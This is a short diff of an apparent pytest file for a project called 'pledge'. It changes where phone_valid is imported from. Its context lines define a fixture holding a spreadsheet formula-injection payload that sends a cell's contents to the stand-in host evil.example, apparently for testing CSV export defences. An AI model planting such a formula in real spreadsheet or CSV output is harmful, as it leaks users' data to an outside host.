@@ -8,7 +8,7 @@ from decimal import Decimal
 import pytest
 
 from pledge.csvfiles import csv_text
-from pledge.intake.forms import phone_valid
+from pledge.people.values import phone_valid
 
 LINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'
 
